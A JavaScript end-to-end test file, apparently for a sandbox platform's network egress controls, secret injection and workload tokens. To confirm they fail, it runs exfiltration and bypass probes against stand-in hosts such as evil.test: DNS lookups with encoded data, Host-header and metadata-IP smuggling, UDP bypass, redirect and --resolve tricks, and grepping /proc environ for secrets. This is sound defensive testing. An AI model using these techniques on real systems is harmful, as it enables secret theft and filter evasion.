// C3 to C7 on an installation of its own, whose names and internet are a namespace of the test: rules by domain, header rules,
// secrets and workload tokens, with the stock client and the programs that people use inside.
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the wire's placeholders look like this
import assert from "node:assert/strict";
import { createPublicKey, verify } from "node:crypto";
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { client, pause, until } from "../e2e/support.mjs";
import { startOwnInstallation } from "../faults/own-installation.mjs";
import { ELSEWHERE, ORIGIN, startOutside } from "./outside/lab.mjs";

const ALL = "0.0.0.0/0";
const VALUE = "hush-hush-of-the-attack-test";
let outside;
let own;
before(async () => {
  outside = await startOutside({ names: ["api.test", "other.test", "evil.test"] });
  own = await startOwnInstallation({ flags: ["--dns", outside.dns, "--guest-ca", outside.caFile, "--warm", "2"] });
});
after(async () => {
  try {
    if (own !== undefined) assert.deepEqual(await own.end(), []);
  } finally {
    outside?.end();
  }
});

/** Output of a command, and nothing thrown when it fails. */
async function sh(sandbox, command) {
  const result = await sandbox.commands.run(`${command}; true`, { timeoutMs: 30_000 });
  return result.stdout.trim();
}
const curl = (sandbox, ...words) => sh(sandbox, `curl -sS -m 20 ${words.join(" ")} 2>&1`);
function filesBelow(dir) {
  return readdirSync(dir, { withFileTypes: true }).flatMap((entry) => {
    const path = join(dir, entry.name);
    return entry.isDirectory() ? filesBelow(path) : entry.isFile() ? [path] : [];
  });
}
const rest = async (method, path, body) => {
  const answer = await fetch(`${own.connection.apiUrl}${path}`, {
    method,
    headers: { "X-API-Key": own.connection.apiKey, "Content-Type": "application/json" },
    ...(body && { body: JSON.stringify(body) }),
  });
  return { status: answer.status, json: answer.status === 204 ? undefined : await answer.json() };
};

test("C3 C5 an allowed domain is reached, nothing else is, and answers that point inside lead nowhere", async () => {
  const sandbox = await own.create({ network: { allowOut: ["*.test"], denyOut: [ALL] } });
  assert.equal(await curl(sandbox, "https://api.test/x"), "tls api.test /x");
  assert.equal(await curl(sandbox, "http://API.test/x"), "http API.test /x");
  for (const url of ["https://inside.test/", "http://inside.test/", `http://${ORIGIN}/`, `https://${ORIGIN}/`])
    assert.match(await curl(sandbox, url), /curl: \(\d+\)/);
  for (let tries = 0; tries < 4; tries += 1) await curl(sandbox, "http://rebind.test/");
  for (const host of ["api.test.evil", "xtest", "api.test@evil.com", "169.254.170.2", "0x0a000001"])
    assert.match(await curl(sandbox, `-H 'Host: ${host}'`, `http://${ELSEWHERE}/`), /curl: \(\d+\)/, host);
  assert.deepEqual(
    (await outside.heard()).filter(({ via }) => via === "metadata"),
    [],
  );
});

test("C4 names, UDP and other resolvers are no way around", async () => {
  const sandbox = await own.create({ network: { allowOut: ["api.test"], denyOut: [ALL] } });
  assert.equal(await sh(sandbox, "getent ahostsv4 api.test | head -1 | cut -d' ' -f1"), ORIGIN);
  assert.equal(await sh(sandbox, "getent ahostsv4 c2VjcmV0.evil.test || echo none"), "none");
  await sh(sandbox, `echo quic > /dev/udp/${ORIGIN}/443; echo dns > /dev/udp/${ORIGIN}/53`);
  // One connection, two hosts: the second is refused.
  const out = await curl(sandbox, "http://api.test/one --next -sS -m 20 -H 'Host: evil.test' http://api.test/two");
  assert.match(out, /^http api\.test \/one[\s\S]*another host/);
  const heard = await outside.heard();
  assert.deepEqual(
    heard.map(({ via, url }) => [via, url]),
    [["http", "/one"]],
  );
});

test("C6 rules are replaced on the living sandbox and outlive the node's process", async () => {
  const sandbox = await own.create({ network: { allowOut: ["api.test"], denyOut: [ALL] } });
  assert.match(await curl(sandbox, "https://other.test/"), /curl: \(/);
  await sandbox.updateNetwork({ allowOut: ["other.test"], denyOut: [ALL] });
  assert.equal(await curl(sandbox, "https://other.test/x"), "tls other.test /x");
  assert.match(await curl(sandbox, "https://api.test/"), /curl: \(/);
  await own.killService("orchestrator");
  await until(async () => (await curl(sandbox, "https://other.test/x")) === "tls other.test /x", {
    what: "the way out",
  });
  assert.match(await curl(sandbox, "https://api.test/"), /curl: \(/);
  assert.deepEqual((await sandbox.getInfo()).network?.allowOut, ["other.test"]);
});

test("C6 rules and workload tokens go along with a pause, a resume and a fork", async () => {
  const rules = { "api.test": [{ transform: { headers: { Authorization: "${e2b.identity.tokens.aws}" } } }] };
  const iam = { tokens: { aws: { audience: "sts.test", tokenType: "JWT-SVID" } } };
  const network = { allowOut: ["api.test"], denyOut: [ALL], rules };
  const { status, json } = await rest("POST", "/v2/sandboxes", { templateID: "base", timeout: 60, iam, network });
  assert.equal(status, 201, JSON.stringify(json));
  const paused = await rest("POST", `/sandboxes/${json.sandboxID}/pause`);
  assert.equal(paused.status, 204, JSON.stringify(paused.json));
  const resumed = await client.Sandbox.connect(json.sandboxID, own.connection);
  const forked = await rest("POST", `/sandboxes/${json.sandboxID}/fork`, { timeout: 60 });
  assert.equal(forked.status, 201, JSON.stringify(forked.json));
  const child = await client.Sandbox.connect(forked.json[0].sandbox.sandboxID, own.connection);
  for (const sandbox of [resumed, child]) {
    await outside.heard();
    assert.equal(await curl(sandbox, "https://api.test/x"), "tls api.test /x");
    assert.match(await curl(sandbox, "https://other.test/"), /curl: \(/);
    const heard = await outside.heard();
    assert.equal(heard.length, 1, JSON.stringify(heard));
    const { sub } = JSON.parse(Buffer.from(heard[0].headers.authorization.split(".")[1], "base64url"));
    assert.ok(sub.endsWith(`/sandbox/${sandbox.sandboxId}`), sub);
  }
});

test("C7 a secret goes to its domain by TLS, and nowhere else", async () => {
  assert.equal((await rest("POST", "/secrets", { name: "key", value: VALUE })).status, 201);
  const rules = { "api.test": [{ transform: { headers: { Authorization: "Bearer ${e2b.secrets.key}" } } }] };
  const sandbox = await own.create({ network: { rules } });
  await outside.heard();
  // Programs that people use trust the way out by themselves.
  const python = "import urllib.request as u; print(u.urlopen('https://api.test/python').read().decode())";
  assert.equal(await curl(sandbox, "https://api.test/curl"), "tls api.test /curl");
  assert.equal(await sh(sandbox, `python3 -c "${python}" 2>&1`), "tls api.test /python");
  const node = "require('https').get('https://api.test/node', (a) => a.pipe(process.stdout)).on('error', console.log)";
  assert.equal(await sh(sandbox, `node -e "${node}"`), "tls api.test /node");
  const told = await outside.heard();
  assert.deepEqual(
    told.map(({ headers }) => headers.authorization),
    Array(3).fill(`Bearer ${VALUE}`),
  );

  for (const [what, words, status] of [
    ["another Host", "-H 'Host: evil.test' https://api.test/", "421"],
    ["plain HTTP", "http://api.test/", "403"],
  ])
    assert.equal((await curl(sandbox, "-o /dev/null -w '%{http_code}'", words)).slice(-3), status, what);
  assert.deepEqual(await outside.heard(), []);
  await curl(sandbox, "-L https://api.test/redirect");
  await curl(sandbox, `-k -H 'Host: api.test' https://${ORIGIN}/no-name`);
  await curl(sandbox, `--resolve api.test:443:${ELSEWHERE} https://api.test/elsewhere`);
  const seen = (await outside.heard()).map(({ url, headers }) => [url, headers.authorization]);
  assert.deepEqual(seen, [
    ["/redirect", `Bearer ${VALUE}`],
    ["/stolen", undefined],
    ["/no-name", undefined],
    ["/elsewhere", `Bearer ${VALUE}`],
  ]);
});

test("C7 a secret lies nowhere in the clear: guest, journal, logs, answers", async () => {
  const rules = { "api.test": [{ transform: { headers: { "X-Key": "${e2b.secrets.key}" } } }] };
  const egressProxy = { address: "proxy.test:1080", username: "u", password: "proxy-password-of-the-test" };
  const sandbox = await own.create({ network: { rules } });
  const proxied = await own.create({ network: { egressProxy } });
  assert.equal(await curl(sandbox, "https://api.test/x"), "tls api.test /x");
  assert.equal(
    await sh(sandbox, `grep -rs '${VALUE.slice(0, 12)}' /etc /home /run /tmp /proc/*/environ | head -1`),
    "",
  );
  const detail = (await rest("GET", `/sandboxes/${proxied.sandboxId}`)).json;
  assert.deepEqual(detail.network.egressProxy, { address: "proxy.test:1080", username: "u" });
  const files = ["logs", "redis", "postgres"].flatMap((dir) => filesBelow(join(own.dataDir, dir)));
  const journals = readdirSync(join(own.dataDir, "node")).filter((name) => name.startsWith("journal"));
  assert.ok(files.length > 100 && journals.length > 0);
  const found = [...files, ...journals.map((name) => join(own.dataDir, "node", name))].filter((path) => {
    const text = readFileSync(path, "latin1");
    return text.includes(VALUE) || text.includes(egressProxy.password);
  });
  assert.deepEqual(found, []);
});

test("C7 a replaced secret is used, a deleted one is not, within three seconds", async () => {
  const rules = { "api.test": [{ transform: { headers: { "X-Key": "${e2b.secrets.key}" } } }] };
  const sandbox = await own.create({ network: { allowOut: ["api.test"], denyOut: [ALL] } });
  // Rules that come later: the guest learns to trust the way out then.
  await sandbox.updateNetwork({ allowOut: ["api.test"], denyOut: [ALL], rules });
  assert.equal(await curl(sandbox, "https://api.test/before"), "tls api.test /before");
  assert.equal((await rest("POST", "/secrets/key", { value: "second" })).json.currentVersion, 2);
  await pause(3_000);
  await curl(sandbox, "https://api.test/after");
  const keys = (await outside.heard()).map(({ headers }) => headers["x-key"]);
  assert.deepEqual(keys.slice(-2), [VALUE, "second"]);
  assert.equal((await rest("DELETE", "/secrets/key")).status, 204);
  await pause(3_000);
  assert.match(await curl(sandbox, "https://api.test/gone"), /a value of a header rule does not exist/);
  assert.deepEqual(await outside.heard(), []);
});

test("a workload token names its sandbox, for its audience, and the published keys verify it", async () => {
  const rules = { "api.test": [{ transform: { headers: { Authorization: "Bearer ${e2b.identity.tokens.aws}" } } }] };
  const iam = { tokens: { aws: { audience: "sts.test", tokenType: "JWT-SVID" } } };
  const made = await rest("POST", "/v2/sandboxes", { templateID: "base", timeout: 60, iam, network: { rules } });
  assert.equal(made.status, 201, JSON.stringify(made.json));
  const sandbox = await client.Sandbox.connect(made.json.sandboxID, own.connection);
  await outside.heard();
  assert.equal(await curl(sandbox, "https://api.test/who"), "tls api.test /who");
  const [{ headers }] = await outside.heard();
  const [head, body, signature] = headers.authorization.replace("Bearer ", "").split(".");
  const claims = JSON.parse(Buffer.from(body, "base64url"));
  assert.deepEqual(claims.aud, ["sts.test"]);
  assert.match(claims.sub, new RegExp(`^spiffe://sandlot\\.test/team/.*/sandbox/${made.json.sandboxID}$`));
  const { keys } = await (await fetch(`${own.connection.apiUrl}/.well-known/jwks.json`)).json();
  const { kid } = JSON.parse(Buffer.from(head, "base64url"));
  const key = createPublicKey({ key: keys.find((one) => one.kid === kid), format: "jwk" });
  const signed = Buffer.from(`${head}.${body}`);
  assert.ok(verify("sha256", signed, { key, dsaEncoding: "ieee-p1363" }, Buffer.from(signature, "base64url")));
});

test("the owner sees what left and what was refused", async () => {
  const sandbox = await own.create({ network: { allowOut: ["api.test"], denyOut: [ALL] } });
  await curl(sandbox, "https://api.test/x");
  await curl(sandbox, "-k --resolve evil.test:443:198.51.100.77 https://evil.test/x");
  const { json } = await rest("GET", `/sandboxes/${sandbox.sandboxId}/egress`);
  assert.equal(json.proxied, true);
  const [refused, passed] = json.flows.map(({ host, verdict, reason, port }) => ({ host, verdict, reason, port }));
  assert.deepEqual(refused, { host: "evil.test", verdict: "denied", reason: "denied_cidr", port: 443 });
  assert.deepEqual(passed, { host: "api.test", verdict: "allowed", reason: "allowed_domain", port: 443 });
});
